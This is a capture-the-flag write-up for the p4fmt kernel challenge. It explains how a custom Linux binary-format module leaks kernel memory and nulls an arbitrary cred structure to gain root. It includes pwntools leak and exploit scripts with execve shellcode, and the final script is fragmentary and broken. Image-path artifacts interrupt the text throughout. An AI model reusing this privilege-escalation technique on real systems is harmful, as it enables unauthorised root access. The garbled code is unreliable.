CONFidence CTF – p4fmt Write-up

Solved by @slashb4sh@sherl0ck, and @night_f0x

This weekend had a couple of really good CTF’s, iCTF and Teaser CONFidence CTF, and our team had loads of fun playing them. In the Teaser CONFidence CTF, there was this really fun kernel challenge which is extremely beginner friendly. This was also the first time me and sl4shb4sh took a look into a kernel challenge, our resident kernel guy, night_f0x, being en-route to attend the Trooper’s Con :P. So please do note that this write-up is based on our limited knowledge, and if you spot an error or want to add something, do feelfree to comment.



Kernel challs are always a bit painful.
No internet access, no SSH, no file copying.
You're stuck with copy pasting base64'd (sometimes static) ELFs.
But what if there was another solution?
We've created a lightweight, simple binary format for your pwning pleasure. It's time to prove your skills.

So let’s get started. We are given a kernel image, the root filesystem and a shell script to boot the kernel in qemu. We extracted the files from the file-system in the following manner –

 » 7z e initramfs.cpio.gz

 » binwalk -e initramfs.cpio» cd _initramfs.cpio.extracted/cpio-root

 »ls
   bin dev etc flag home init p4fmt.ko proc sbin sys tmp usr

So we have a kernel module `p4fmt.ko`. Let’s load it up in ida and take a look at what it does.


Like the challenge description said, the kernel module is an implementation forloading a simple binary format “p4”. When the module is loaded, it first registers the binary format with a call to `_register_binfmt`. It then checks if the first 4 byte’s of the executable are “P4\x00” (this is the files ‘magic bytes’ like \x7fELF is for ELF files). The fourth byte represents some kind of a version and if this e is greater than 1, it returns saying “Unknown Version”.

After this comes a number which is basicallya count of the number of elements in an array of structures (more in next sentence). The bytes from 7 to 15 represent an offset from where there is an array of structures, each element of which holds the following three things – an address to bemapped (the last 3 bits represent the protection), the length of the region to be mapped and an offset into the mapped region.

The next part is a bit similar to what happens when ELF’s are loaded and this article explains that quite clearly. Here’s a quick quote of the important points. A call to  flush_old_exec(), clears up the state in the kernel that refers to the previous program. After this, a  call to `setup_new_exec` now sets up the kernel’s internal state for the new program.

Now each element in the array of structures that we discussed earlier is visited and a call to vm_mmap with the address (page aligned), protection, length and offset as specified in the structure. Now, here’s an interesting part – if the bitwise “and” of the address specified with 8 does not give zero, then a call to _clear_user is made with the arguments as the address and the length specified. This function is used for nulling out userspace memory.

After the above stuff is completed the credentials for the new program are set up via a call to install_exec_creds(). Now some more initialization stuff is done that is irrelevant for this challenge and then the start_thread()function is called which sets the saved instruction pointer to the entry point of the program, and the saved stack pointer to the current top of the stack. The entry point is the address that is specified in the 8 bytes starting from the 16th byte from the start of the file.

So to summarize• First a check to see if the file header, the first three bytes, are `”P4\x00″`, else exits. The fourth byte also has to be less than or equal to 1.
  • Then `flush_old_exec()` is called, which basically clears up state in the kernel which refers to any previous program, followed by a call to `setup_new_exec()` to setup up kernel’s internal state for the new program.
  • The fourth byte is checked again, if 0, `vm_mmap()` is called to allocate virtual memory for the process. It is called as, `vm_mmap(*(obj + 8), *(obj + 0x50), 0x1000LL, *(obj + 0x50) & 7LL, 2LL, 0LL)`

The is definition of `vm_mmap()`,

<span id="mce_SELREST_start" style="overflow:hidden;line-height:0;"></span>unsigned long vm_mmap(struct file *file, unsigned long addr,

unsigned long len, unsigned long prot,

unsigned long flag, unsigned long offset)

    if (unlikely(offset + PAGE_ALIGN(len) < offset))        return -EINVAL;     if (unlikely(offset_in_page(offset)))        return -EINVAL;       return vm_mmap_pgoff(file, addr, len, prot, flag, offset >> PAGE_SHIFT);
<span id="mce_SELREST_end" style="overflow:hidden;line-height:0;"></span>}

In this case the address mapped, length, and prot, is in our control as it is referenced from the file data.

Memory Leaks

The module uses printk() to print the arguments of the `vm_mmap` and the _clear_user functions. Now, remember the offset that is there in the file to identify the start of the structure’s array? Well, it turns out that there is no check to ensure that the offset lies within the bounds of the address where the contents of the executable are present. So we can give an out of bounds offset that will leak the data present at the offset.


The _clear_userdoes not verify whether the address passed as an argument is indeed a userspace address. In other words, this function does not have an access_ok check to verify that the address being nulled out is not a kernel address. Thus we can null out an arbitrary kerneladdress.

We stumbled upon this after almost 12 hrs of staring at the code and that too by randomly setting the argument to the function as a kernel address in gdb. Now we called up night_f0x who was in the immigration check at that time o_0. He told us to check for the `access_ok` check. He also told us about overwriting the creds structure with null to land a root shell. Now we spent some time reading up old CTF write-up on overwriting the creds structure.


When any binary is executed, the contents of the file is passed as an `linux_binprm` structure to load\_p4\_binary. This structure is used to hold the arguments that are used when loading binaries. The actual content of the file start at the offset `obj+0x48`. The structure is defined as,

struct linux_binprm {char buf[BINPRM_BUF_SIZE];


 struct vm_area_struct *vma;

 unsigned long vma_pages;


# define MAX_ARG_PAGES 32

 struct page *page[MAX_ARG_PAGES];


 struct mm_struct *mm;unsigned long p; /* current top of mem */

 unsigned long argmin; /* rlimit marker for copy_strings() */

 unsigned int


   * True after the bprm_set_creds hook has been called once

   * (multiple calls can be made via prepare_binprm() for

   * binfmt_script/misc).




   * True if most recent call to the commoncaps bprm_set_creds

   * hook (due to multiple prepare_binprm() calls from the

   * binfmt_script/misc handlers) resulted in elevated

   * privileges.




   * Set by bprm_set_creds hook to indicate a privilege-gaining* exec has happened. Used to sanitize execution environment

   * and to set AT_SECURE auxv for glibc.



#ifdef __alpha__

 unsigned int taso:1;


 unsigned int recursion_depth; /* only for search_binary_handler() */

 struct file * file;

 struct cred *cred; /* new credentials */

 int unsafe;   /* how unsafe this exec is (mask of LSM_UNSAFE_*) */

 unsigned int per_clear; /* bits to clear in current->personality */

 int argc, envc;

 const char * filename; /* Name of binary as seen by procps */

 const char * interp; /* Name of the binary really executed. Most

  of the time same as filename, but could be

  different for binfmt_{misc,script} */

 unsigned interp_flags;

 unsigned interp_data;

 unsigned long loader, exec;

 struct rlimit rlim_stack; /* Saved RLIMIT_STACK used during exec. */

} __randomize_layout;

Notice that the cred structure is present here, so we thought that the initial problem of getting a leak of the creds structure is solved here. As it turns out, since creds structure is different for different processes, the address varies each time. We’ll come back to this later.

Provided that we know the address of the creds structure, we can use _clear_userto null out the appropriate fields in the creds structure. Let’s take a quick look at the structure –

struct cred {atomic_t    usage;
    atomic_t    subscribers;    /* number of processes subscribed */
    void        *put_addr;
    unsigned    magic;
#defineCRED_MAGIC  0x43736564
#define CRED_MAGIC_DEAD 0x44656144
    kuid_t      uid;        /* real UID of the task */
    kgid_t      gid;        /* real GID of the task */
    kuid_t      suid;       /* saved UIDof the task */
    kgid_t      sgid;       /* saved GID of the task */
    kuid_t      euid;       /* effective UID of the task */
    kgid_t      egid;       /* effective GID of the task */
    kuid_t      fsuid;      /* UID for VFS ops */
    kgid_t      fsgid;      /* GID for VFS ops */
    unsigned    securebits; /* SUID-less security management */
    kernel_cap_t    cap_inheritable; /* caps our children can inherit */
    kernel_cap_t    cap_permitted;  /* caps we're permitted */
    kernel_cap_t    cap_effective;  /* caps we can actually use */
    kernel_cap_t    cap_bset;   /* capability bounding set */
    kernel_cap_t    cap_ambient;    /* Ambient capability set */
    unsigned char   jit_keyring;    /* default keyring to attach requested
                     * keys to */
    struct key __rcu *session_keyring; /* keyring inherited over fork */
    struct key  *process_keyring; /* keyring private to this process */
    struct key  *thread_keyring; /* keyring private to this thread */
    struct key  *request_key_auth; /* assumed request_key authority */
    void        *security;  /* subjective LSM security */
    struct user_struct *user;   /* real user ID subscription */
    struct user_namespace *user_ns; /* user_ns the caps and keyrings are relative to. */
    struct group_info *group_info;  /* supplementary groups for euid/fsgid */
    struct rcu_head rcu;        /* RCU deletion hook */
}__randomize_layout;

We definitely have to overwrite the uid, gid to null to get our process running as root. But hit and trial we saw that overwriting 80 bytes with null, starting from the uid field was enough to let our process run with root privileges.

To spawn a shell, we wrote a shellcode and gave the size of the array that holds the structure as 2 –

  • The first element had the address to be mapped as 0x400000 and the protections as Read|Write|Execute.
  • The second element had the address as the pointer to the creds structure (we added 0x18 to it so as to start the null overwrite from the uid field and also so that the address with bitwise anded with 8 does not give 0 and hence triggers the path of the _clear_user function)The entry point was given as `0x400048` because the first 48 bytes consisted of the header+the array of structures and our code started only from the offset 0x48.

Now before calling the start_thread function to execute our code, the module calls the `install_exec_creds()` to set the appropriate privileges.

void install_exec_creds(struct linux_binprm *bprm)

    bprm-cred = NULL;

Thus install_exec_creds call’s commit_creds. Now we already overwrote the id’s in the creds structure to NULL. Thus after the commit creds is called, our process is given the root privilege.  Now, all we have to do is spawn a shell to read the flag, and our shellcode does just that.

We thought that we were done here when we observed that the address of the creds structure kept changing for different processes. So after we ran our process that would give the leaks and tried to run the process for the exploit, the address of the creds structure change. But here we noticed another thing – if we ran the process for leaking various times the addresses repeated. Basically, it was cycling through a set of addresses.

So we wrote a python script to get all the addresses and then create different processes, each of which cleared out a one leaked creds structure. Now we have no clue why it was cycling through the addresses, but based solely on observations, we ran each process a fixed no. of time’s and stopped the moment we got a root shell.

Here is the script for getting the leak

from pwn import *

exploit = "P4\x00\x01\x02\x00\x00\x00"
exploit += p64(0x90)
exploit += p64(0xffffffff89262008)
exploit += p64(0x2000)
exploit += p64(0x00)
exploit +="bbbbbbbbaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

print exploit.encode("base64").replace("\n","")

Here is the final exploit

from pwn import *

# r = process("./")

def send(data):
    r.sendlineafter("/ $ ",data)

# Send in the base64'ed leaker process, make it exeutable and run it.


for i in range (5):
    r.recvuntil(", length=")
    leak1=r.recvuntil(", ").strip(", ")
    if leak1 in leak:
    r.sendlineafter("tmp $",'./asd')

def exp(lk):
    exploit = "P4\x00\x01\x02\x00\x00\x00"
    exploit += p64(0x18)
    exploit += p64(0x400048)
    exploit += p64(0x400007)
    exploit += p64(0x1000)
    exploit += p64(0x00)
    exploit += p64(int(lk,16)+0x18)
    exploit += p64(80)
    exploit += p64(0x00)
    exploit += "\x31\xc0\x48\xbb\xd1\x9d\x96\x91\xd0\x8c\x97\xff\x48\xf7\xdb\x53\x54\x5f\x99\x52\x57\x54\x5e\xb0\x3b\x0f\x05"
    return exploit

for i in range(len(leak)):
